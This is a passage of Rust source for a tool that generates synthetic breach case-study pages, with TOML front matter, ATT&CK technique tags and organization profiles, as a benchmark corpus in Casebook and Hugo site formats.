            toml_str(publisher),
            ymd(*date)
        );
    }
    s.push_str("+++\n");
    s.push_str(&c.body);
    s
}

/// Hugo's slug for a term URL is its own (`urlize`); links only need to land somewhere
/// comparable, so ours is fine.
fn hugo_body(body: &str, v: &Vocab) -> String {
    let mut out = String::with_capacity(body.len());
    let mut rest = body;
    while let Some(p) = rest.find("](") {
        out.push_str(&rest[..p + 2]);
        rest = &rest[p + 2..];
        if let Some(x) = rest.strip_prefix("<org:") {
            let end = x.find(">)").unwrap();
            let name = &x[..end];
            let slug = v.orgs.iter().find(|o| o.name == name).map(|o| o.slug.as_str()).unwrap_or("");
            let _ = write!(out, "/organizations/{slug}/)");
            rest = &x[end + 2..];
        } else if let Some(x) = rest.strip_prefix("attack:") {
            let end = x.find(')').unwrap();
            let _ = write!(out, "/techniques/{}/)", x[..end].to_ascii_lowercase());
            rest = &x[end + 1..];
        } else if let Some(x) = rest.strip_prefix("@/cases/") {
            let end = x.find(".md)").unwrap();
            let _ = write!(out, "/cases/{}/)", &x[..end]);
            rest = &x[end + 4..];
        }
    }
    out.push_str(rest);
    out
}

fn hugo_file(c: &CaseData, v: &Vocab) -> String {
    let mut s = String::with_capacity(9_000);
    let orgs: Vec<&str> = c.orgs.iter().map(|&k| v.orgs[k].name.as_str()).collect();
    let techs: Vec<&str> = c.techniques.iter().map(|t| TECHNIQUES[t.0].0).collect();
    s.push_str("+++\n");
    let _ = writeln!(s, "title = {}", toml_str(&c.title));
    let _ = writeln!(s, "date = {}", ymd(c.date));
    let _ = writeln!(s, "summary = {}", toml_str(&c.summary));
    let _ = writeln!(s, "organizations = {}", toml_list(&orgs));
    let _ = writeln!(s, "techniques = {}", toml_list(&techs));
    let _ = writeln!(s, "sectors = {}", toml_list(&[c.sector]));
    let _ = writeln!(s, "countries = {}", toml_list(&[c.country]));
    let _ = writeln!(s, "tags = {}", toml_list(&c.tags));
    let _ = writeln!(s, "years = {}", toml_list(&[c.happened_year.to_string()]));
    if c.tlp != "clear" && c.tlp != "green" {
        // Casebook leaves these out of the build; so does Hugo.
        s.push_str("draft = true\n");
    }
    let _ = writeln!(s, "tlp = {}", toml_str(c.tlp));
    let _ = writeln!(s, "data_types = {}", toml_list(&c.data_types));
    // The taxonomies Casebook derives (tactics from the techniques, actors from the
    // incident), written out so Hugo builds the same term pages.
    let mut tactics: Vec<&str> = Vec::new();
    for (k, tactic, ..) in &c.techniques {
        for t in tactic.map(|t| vec![t]).unwrap_or_else(|| TECHNIQUES[*k].2.to_vec()) {
            if !tactics.contains(&t) {
                tactics.push(t);
            }
        }
    }
    let _ = writeln!(s, "tactics = {}", toml_list(&tactics));
    let _ = writeln!(s, "actors = {}", toml_list(&[c.actor]));
    s.push_str("\n[incident]\n");
    let _ = writeln!(s, "status = {}", toml_str(c.status));
    let _ = writeln!(s, "actors = {}", toml_list(&[c.actor]));
    let _ = writeln!(s, "started = {}", toml_str(&c.started));
    let _ = writeln!(s, "detected = {}", ymd(c.detected));
    let _ = writeln!(s, "disclosed = {}", ymd(c.disclosed));
    s.push_str("\n[impact]\n");
    if let Some(p) = c.people {
        let _ = writeln!(s, "people = {p}");
    }
    if let Some(r) = c.records {
        let _ = writeln!(s, "records = {r}");
    }
    for (k, tactic, conf, _, evidence) in &c.techniques {
        let (id, name, _) = TECHNIQUES[*k];
        let _ = writeln!(s, "\n[[attack]]\nid = {}\nname = {}", toml_str(id), toml_str(name));
        if let Some(t) = tactic {
            let _ = writeln!(s, "tactic = {}", toml_str(t));
        }
        let _ = writeln!(s, "confidence = {}\nevidence = {}", toml_str(conf), toml_str(evidence));
    }
    for (d, e) in &c.timeline {
        let _ = writeln!(s, "\n[[timeline]]\ndate = {}\nevent = {}", toml_str(d), toml_str(e));
    }
    for (url, title, publisher, date) in &c.references {
        let _ = writeln!(
            s,
            "\n[[references]]\nurl = {}\ntitle = {}\npublisher = {}\ndate = {}",
            toml_str(url),
            toml_str(title),
            toml_str(publisher),
            ymd(*date)
        );
    }
    s.push_str("+++\n");
    s.push_str(&hugo_body(&c.body, v));
    s
}

/// Profiles for the most used organizations (ranks 0, 1, 2, ... of the Zipf pool).
fn org_profile(k: usize, v: &Vocab, hugo: bool) -> (String, String) {
    let o = &v.orgs[k];
    let mut r = Rng::new(0x0F11E ^ k as u64);
    let sector = SECTORS[v.sector_z.sample(&mut r)];
    let country = COUNTRIES[v.country_z.sample(&mut r)];
    let body = format!(
        "{} is a {} organization based in {country}. It appears in several case studies here; \
         the list below is in the order the incidents happened.\n\n\
         - Headquarters: {country}\n- Sector: {sector}\n- Employees: about {}\n",
        o.name,
        sector.to_lowercase(),
        r.range(200, 90_000)
    );
    let text = if hugo {
        format!("+++\ntitle = {}\n+++\n{body}", toml_str(&o.name))
    } else {
        format!(
            "+++\nname = {}\nsectors = {}\ncountries = {}\nwebsite = \"https://www.{}.example/\"\n+++\n{body}",
            toml_str(&o.name),
            toml_list(&[sector]),
            toml_list(&[country]),
            o.slug
        )
    };
    (o.slug.clone(), text)
}

const SITE_TOML: &str = r#"title = "Breach Casebook (benchmark corpus)"
base_url = "https://cases.example.org"
language = "en"
description = "Synthetic breach case studies for benchmarking."

[publish]
tlp = ["clear", "green"]

[pagination]
per_page = 50
"#;

fn write(path: &Path, text: &str) {
    if let Some(dir) = path.parent() {
        fs::create_dir_all(dir).unwrap_or_else(|e| panic!("{}: {e}", dir.display()));
    }
    fs::write(path, text).unwrap_or_else(|e| panic!("{}: {e}", path.display()));
}

fn main() {
    let args: Vec<String> = std::env::args().skip(1).collect();
    let usage = "usage: gen_cases N DIR [--hugo HUGODIR] | gen_cases --version";
    if args.first().map(String::as_str) == Some("--version") {
        println!("{GENERATOR_VERSION}");
        return;
    }
    let n: usize = args.first().and_then(|s| s.parse().ok()).expect(usage);
    let dir = PathBuf::from(args.get(1).expect(usage));
    let hugo = match args.get(2).map(String::as_str) {
        Some("--hugo") => Some(PathBuf::from(args.get(3).expect(usage))),
        None => None,
        Some(_) => panic!("{usage}"),
    };

    let orgs = org_pool(n);
    let v = Vocab {
        org_z: Zipf::new(orgs.len(), 1.0),
        orgs,
        tech_z: Zipf::new(TECHNIQUES.len(), 1.0),
        sector_z: Zipf::new(SECTORS.len(), 0.9),
        country_z: Zipf::new(COUNTRIES.len(), 1.1),
        tag_z: Zipf::new(TAGS.len(), 1.0),
        dtype_z: Zipf::new(DATA_TYPES.len(), 0.9),
        actor_z: Zipf::new(ACTORS.len(), 1.2),
    };

    write(&dir.join("site.toml"), SITE_TOML);
    let cases_dir = dir.join("content/cases");
    fs::create_dir_all(&cases_dir).unwrap();
    let hugo_cases = hugo.as_ref().map(|h| h.join("content/cases"));
    if let Some(h) = &hugo_cases {
        fs::create_dir_all(h).unwrap();
    }
    let mut words = 0usize;
    for i in 1..=n {
        let c = case(i, &v);
        words += c.body.split_whitespace().count();
        fs::write(cases_dir.join(format!("{}.md", c.slug)), casebook_file(&c, &v)).unwrap();
        if let Some(h) = &hugo_cases {
            fs::write(h.join(format!("{}.md", c.slug)), hugo_file(&c, &v)).unwrap();
        }
    }
    let profiles = (n / 200).clamp(3, 50).min(v.orgs.len());
    for k in 0..profiles {
        let (slug, text) = org_profile(k, &v, false);
        write(&dir.join(format!("content/organizations/{slug}.md")), &text);
        // Hugo's term page for an organization takes `_index.md` in the folder of its
        // term URL; Hugo keeps CJK and `&` in those, so only plain names get one there.
        let name = &v.orgs[k].name;
        if let Some(h) = hugo.as_ref().filter(|_| name.chars().all(|c| c.is_ascii_alphanumeric() || c == ' ')) {
            let (_, text) = org_profile(k, &v, true);
            write(&h.join(format!("content/organizations/{slug}/_index.md")), &text);
        }
    }
    eprintln!(
        "gen_cases v{GENERATOR_VERSION}: {n} cases ({} words per body on average), {} organizations, {profiles} profiles -> {}{}",
        words / n.max(1),
        v.orgs.len(),
        dir.display(),
        hugo.as_ref().map(|h| format!(" and {}", h.display())).unwrap_or_default()
    );
}
